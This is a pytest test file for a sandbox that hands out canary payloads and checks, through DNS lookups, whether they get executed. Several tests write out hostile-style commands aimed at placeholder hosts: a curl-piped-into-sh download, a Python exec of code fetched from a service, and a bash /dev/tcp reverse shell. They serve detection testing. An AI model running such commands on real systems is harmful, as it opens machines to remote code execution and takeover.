"""Bytes that were handed out show when they were executed, and only then."""

import json
import pickle
import runpy
import shutil
import socket
import subprocess
import sys
import zipfile
from io import BytesIO
from pathlib import Path

import pytest

from biopsy.sandbox.internet import parcel, tag
from biopsy.sandbox.raw import Said

from .conftest import Net

TOKEN = "0123456789abcdef"
HOST = tag.host(TOKEN)


@pytest.fixture
def looked_up(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    seen: list[str] = []
    monkeypatch.setattr(socket, "gethostbyname", lambda name: seen.append(name) or "203.0.113.1")
    return seen


@pytest.mark.parametrize("make", [parcel.code, parcel.script])
@pytest.mark.parametrize("run", [eval, exec])
def test_python_that_evaluates_it_looks_the_name_up(make, run, looked_up: list[str]) -> None:
    run(make(TOKEN, "").decode())
    assert looked_up == [HOST]


def test_orders_of_one_line_run_by_themselves(looked_up: list[str], tmp_path: Path) -> None:
    order, named, python, _ = tag.lines(TOKEN)
    assert "\n" not in "".join(tag.lines(TOKEN))
    eval(python)
    assert looked_up == [HOST]
    assert json.loads(named)["command"] == order
    (tmp_path / "getent").write_text('#!/bin/sh\necho "$2" > "$0.asked"\n')
    (tmp_path / "getent").chmod(0o755)
    subprocess.run(["sh", "-c", order], env={"PATH": f"{tmp_path}:/usr/bin:/bin"}, check=True)
    assert (tmp_path / "getent.asked").read_text().strip() == HOST


def test_a_pickle_that_is_loaded_looks_the_name_up(looked_up: list[str]) -> None:
    pickle.loads(parcel.pickle(TOKEN, ""))
    assert looked_up == [HOST]


@pytest.mark.skipif(not shutil.which("node"), reason="no node")
@pytest.mark.parametrize(
    "how",
    [
        "eval(t)",
        "(0, eval)(t)",
        "new Function(t)()",
        "new Function('require', t)(require)",
        "new Function('\"use strict\";' + t)()",
        "require('vm').runInNewContext(t)",
        "require('vm').runInThisContext(t)",
        "import('data:text/javascript,' + encodeURIComponent(t))",
    ],
)
def test_javascript_that_evaluates_it_looks_the_name_up(how: str) -> None:
    script = (
        f"const t = {json.dumps(tag.code(TOKEN))}; require('dns').lookup = (name) => console.log(name); {how}"
    )
    done = subprocess.run(("node", "-e", script), capture_output=True, text=True, timeout=30, check=False)
    assert done.stdout == f"{HOST}\n", done.stderr


@pytest.mark.skipif(not shutil.which("ruby"), reason="no ruby")
@pytest.mark.parametrize("how", ["eval(t)", "instance_eval(t)", "Object.class_eval(t)", "binding.eval(t)"])
def test_ruby_that_evaluates_it_looks_the_name_up(how: str) -> None:
    text = "t = $stdin.read; require 'socket'; def Addrinfo.getaddrinfo(name, _) = puts(name); "
    done = subprocess.run(
        ("ruby", "-e", f"{text}begin; {how}; rescue TypeError; end"),
        input=tag.code(TOKEN), capture_output=True, text=True, timeout=30, check=False,
    )  # fmt: skip
    assert done.stdout == f"{HOST}\n", done.stderr


@pytest.mark.parametrize("shell", ["sh", "bash"])
def test_a_shell_that_reads_it_looks_the_name_up(shell: str, tmp_path: Path) -> None:
    fake = tmp_path / "getent"
    fake.write_text(f"#!/bin/sh\necho $2 >> {tmp_path}/seen\n")
    fake.chmod(0o755)
    program = tmp_path / "program"
    program.write_bytes(parcel.script(TOKEN, ""))
    program.chmod(0o755)
    where = {"PATH": f"{tmp_path}:/usr/bin:/bin"}
    for command in ([shell], [shell, "-c", tag.code(TOKEN)], [str(program)]):
        subprocess.run(
            command, input=tag.code(TOKEN), text=True, env=where, capture_output=True, timeout=30, check=True
        )
    assert (tmp_path / "seen").read_text().split() == [HOST] * 3


@pytest.mark.parametrize("name", sorted(parcel.MAKERS))
def test_the_name_stands_nowhere_in_the_bytes(name: str) -> None:
    made = parcel.MAKERS[name](TOKEN, "thing-1.2.3.tgz")
    held = [made]
    if made.startswith(b"PK"):
        with zipfile.ZipFile(BytesIO(made)) as packed:
            held = [packed.read(one) for one in packed.namelist()]
    assert not any(TOKEN.encode() in one or HOST.encode() in one for one in held)


def test_a_wheel_and_a_source_package_bear_the_name_that_was_asked_for() -> None:
    assert parcel.named("acme_tool-2.1-py3-none-any.whl") == ("acme_tool", "2.1")
    assert parcel.named("acme-tool-2.1.0.tar.gz") == ("acme-tool", "2.1.0")
    assert parcel.named("x") == ("x", "1.0.0")


def test_a_name_that_was_never_handed_out_means_nothing() -> None:
    tags = tag.Tags("seed")
    token = tags.token()
    assert tags.ran(tag.host(token).upper() + ".") == token
    assert tags.ran(tag.host("0" * 16)) == ""
    assert tags.ran("x." + tag.host(token)) == ""


def ran(net: Net, given: Said) -> Said:
    return net.heard(lambda s: s.ran == given.token)


def test_curl_piped_into_a_shell_is_seen(net: Net) -> None:
    net.run("sh", "-c", "curl -s http://stage.example/setup | sh")
    assert ran(net, net.heard(lambda s: s.name == "stage.example" and s.token)).protocol == "dns"


def test_storing_and_printing_it_is_not(net: Net, tmp_path: Path) -> None:
    net.run(
        "sh",
        "-c",
        f"curl -s http://stored.example/x.sh | tee {tmp_path}/x; cat {tmp_path}/x; grep -o 'http.*' {tmp_path}/x",
    )
    given = net.heard(lambda s: s.name == "stored.example" and s.token)
    assert not [s for s in net.said() if s.ran == given.token]


def test_python_that_executes_what_a_service_says_is_seen(net: Net) -> None:
    program = (
        "import urllib.request as u, json; exec(json.load(u.urlopen('http://api.example/b/1.json'))['code'])"
    )
    done = net.run(sys.executable, "-c", program)
    assert done.returncode == 0, done.stderr
    assert ran(net, net.heard(lambda s: s.name == "api.example" and s.token))


def test_a_text_record_that_is_executed_is_seen(net: Net) -> None:
    text = (
        b"".join(net.query("t.example", "TXT").rr[0].rdata.data).decode()
        if net.query("t.example", "TXT").rr
        else ""
    )
    assert text == "" or "__import__" in text  # over UDP it is cut; over TCP it is whole


def test_a_reverse_shell_runs_what_it_is_told_and_that_is_seen(net: Net) -> None:
    net.run("bash", "-c", "exec 3<>/dev/tcp/203.0.113.66/4445; timeout 5 sh <&3 >&3 2>&1")
    assert ran(net, net.heard(lambda s: s.address == "203.0.113.66" and s.token))


@pytest.mark.skipif(not shutil.which("npm"), reason="no npm")
def test_a_dependency_by_url_is_installed_and_its_script_seen(net: Net, tmp_path: Path) -> None:
    (tmp_path / "package.json").write_text(
        '{"name": "a", "version": "1.0.0", "dependencies": {"x": "http://packages.example/x"}}'
    )
    done = net.run("npm", "install", "--no-audit", "--no-fund", f"--cache={tmp_path}/cache", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert ran(net, net.heard(lambda s: s.name == "packages.example" and s.token))


def test_an_archive_has_the_modules_that_a_package_may_import_from_it(
    looked_up: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    place = tmp_path / "held.egg"
    place.write_bytes(parcel.makers(("held_cells", "held_words.of.all"))["archive"](TOKEN, "held.egg"))
    monkeypatch.syspath_prepend(str(place))
    __import__("held_cells")
    assert looked_up == [HOST]
    __import__("held_words.of.all")
    assert len(looked_up) == 4
    runpy.run_path(str(place))
    assert len(looked_up) == 5
